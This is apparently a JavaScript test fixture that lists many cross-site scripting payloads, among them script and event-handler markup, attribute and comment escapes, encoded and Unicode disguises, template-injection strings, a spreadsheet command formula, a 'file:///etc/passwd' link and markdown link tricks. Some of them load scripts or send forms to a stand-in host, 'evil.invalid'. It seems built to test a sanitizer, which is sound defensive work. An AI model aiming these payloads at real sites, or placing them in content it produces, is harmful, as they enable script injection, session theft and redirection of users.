// What people write who want a page to run their script. Each, should it ever run, opens a dialog or sets `pwned`.

const run = "alert(1)";

/** Markup: elements that run, load, frame, refresh, post or restyle. */
const markup = [
  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script/x>${run}</script>`, `<script\n>${run}</script>`, `<script src=//evil.invalid/x.js></script>`,
  `<script src="data:text/javascript,${run}"></script>`, `<script type=module>${run}</script>`, `<<script>${run}//<</script>`, `</script><script>${run}</script>`,
  `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><script href="data:,${run}"/></svg>`, `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${run}>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${run}'/>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>">`, `<math><mi xlink:href="javascript:${run}">x</mi></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<img src=x onerror=${run}>`, `<img src=x onerror="${run}">`, `<img src=x onerror='${run}'>`, `<img/src=x/onerror=${run}>`, `<img src=x:x onerror\n=${run}>`, `<img src=javascript:${run}>`, `<img srcset="x 1x" onerror=${run}>`,
  `<image src=x onerror=${run}>`, `<picture><source srcset=x><img onerror=${run}></picture>`, `<video src=x onerror=${run}>`, `<video><source onerror=${run}>`, `<audio src=x onerror=${run}>`, `<body onload=${run}>`,
  `<body background="javascript:${run}">`, `<iframe src=javascript:${run}>`, `<iframe srcdoc="<script>parent.alert(1)</script>">`, `<iframe src="data:text/html,<script>${run}</script>">`, `<object data="javascript:${run}">`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`, `<embed src="javascript:${run}">`, `<applet code=x>`, `<frameset onload=${run}>`, `<base href=//evil.invalid/>`, `<link rel=stylesheet href=//evil.invalid/x.css>`,
  `<link rel=import href=data:text/html,x>`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<meta http-equiv=refresh content="0;url=//evil.invalid">`, `<style>@import '//evil.invalid/x.css';</style>`, `<style>body{background:url(//evil.invalid/x)}</style>`,
  `<p style="background:url(//evil.invalid/x)">x</p>`, `<div style=position:fixed;inset:0>x</div>`, `<form action=javascript:${run}><button>x</button></form>`, `<form action=//evil.invalid><input name=q></form>`, `<button formaction=javascript:${run}>x</button>`,
  `<input autofocus onfocus=${run}>`, `<input type=image src=x onerror=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`, `<details open ontoggle=${run}>`, `<marquee onstart=${run}>x</marquee>`, `<dialog open onclose=${run}>x</dialog>`,
  `<a href=javascript:${run}>x</a>`, `<a href="java\tscript:${run}">x</a>`, `<a href="&#106;avascript:${run}">x</a>`, `<a href=" javascript:${run}">x</a>`, `<a href="\u0001javascript:${run}">x</a>`, `<a href=vbscript:msgbox(1)>x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`, `<a onmouseover=${run}>x</a>`, `<x onclick=${run} tabindex=1 autofocus onfocus=${run}>`, `<xss style=animation-name:x onanimationstart=${run}>`, `<isindex action=javascript:${run}>`, `<keygen autofocus onfocus=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<template><script>${run}</script></template>`, `<slot onslotchange=${run}>`, `<leptos-island data-component=Editor data-props='{}'></leptos-island>`, `<title></title><img src=x onerror=${run}>`,
];

/** Ways out of an attribute, a text area, a comment, a title, a string. */
const escapes = [
  `"><script>${run}</script>`, `'><script>${run}</script>`, `"><img src=x onerror=${run}>`, `" onmouseover="${run}" x="`, `' onfocus='${run}' autofocus x='`, `" autofocus onfocus=${run} x="`, "` onerror=alert(1) `",
  `</textarea><script>${run}</script>`, `</textarea><img src=x onerror=${run}>`, `</title><script>${run}</script>`, `</style><script>${run}</script>`, `</select><img src=x onerror=${run}>`, `</option></select><img src=x onerror=${run}>`, `</td></table><script>${run}</script>`,
  `--><script>${run}</script>`, `--!><img src=x onerror=${run}>`, `<!--<img src="--><img src=x onerror=${run}//">`, `]]><script>${run}</script>`, `<![CDATA[<script>${run}</script>]]>`, `<?xml version="1.0"?><script>${run}</script>`, `';${run};//`, `";${run};//`, `\\";${run};//`, `</code></pre><script>${run}</script>`,
  `\u2028${run}//`, `javascript:${run}`, `JaVaScRiPt:${run}`, `data:text/html,<script>${run}</script>`, `//evil.invalid/x`,
];

/** What pretends to be something else: entities, other scripts, templates. */
const disguises = [
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `&#x3c;img src=x onerror=${run}&#x3e;`, `&amp;lt;script&amp;gt;${run}`, `%3Cscript%3E${run}%3C/script%3E`, `\\u003cscript\\u003e${run}`, `\\x3cscript\\x3e${run}`,
  `＜script＞${run}＜/script＞`, `﹤img src=x onerror=${run}﹥`, `<ſcript>${run}</ſcript>`, `\u202E<script>${run}</script>`, `<scr\u200Bipt>${run}</scr\u200Bipt>`, `<img src=x onerror\u3000=${run}>`, `<img\u00A0src=x onerror=${run}>`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `#{${run}}`, `<%= ${run} %>`, `{%raw%}<script>${run}</script>{%endraw%}`, `[[${run}]]`, `{{7*7}}`, `=HYPERLINK("javascript:${run}")`, `=cmd|'/c calc'!A1`,
];

/** Markdown that makes links, pictures, code, tables and notes of it. */
export const markdown = [
  `[x](javascript:${run})`, `[x](JaVaScRiPt:${run})`, `[x](java%0Ascript:${run})`, `[x](&#106;avascript:${run})`, `[x](javascript&colon;${run})`, `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`, `[x](vbscript:msgbox)`, `[x](<javascript:${run}>)`,
  `[x](javascript://%0a${run})`, `[x]( javascript:${run})`, `[x](\u0001javascript:${run})`, `[x](//evil.invalid/x)`, `[x](https://evil.invalid "onmouseover=${run}")`, `[x](https://a.invalid" onmouseover="${run})`, `[x](file:///etc/passwd)`,
  `![x](javascript:${run})`, `![x](x"onerror="${run})`, `![x](https://evil.invalid/x.png)`, `![x](//evil.invalid/x.png "t")`, `![x"onerror="${run}](x)`, `![x](data:image/svg+xml,<svg onload=${run}>)`, `![x](data:text/html,<script>${run}</script>)`,
  `<javascript:${run}>`, `<https://evil.invalid/"onmouseover="${run}>`, `<data:text/html,${run}>`, `https://evil.invalid/<script>${run}</script>`, `\`<script>${run}</script>\``, `\`\`<img src=x onerror=${run}>\`\``,
  `[x][y"onclick="${run}]`, `[^1"onclick=${run}]`, `**<b onclick=${run}>x</b>**`, `| <img src=x onerror=${run}> | b |`, `~~<s onclick=${run}>~~`, `$\\href{javascript:${run}}{x}$`, `$$\\def\\x{<script>${run}</script>}\\x$$`,
];

/** All of them. */
export const payloads = [...markup, ...escapes, ...disguises, ...markdown];

/** All of them in texts of at most so many characters. */
export function chunks(most) {
  const texts = [];
  for (const payload of payloads.filter((payload) => payload.length < most)) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + payload.length < most) texts[texts.length - 1] = `${last} ${payload}`;
    else texts.push(payload);
  }
  return texts;
}
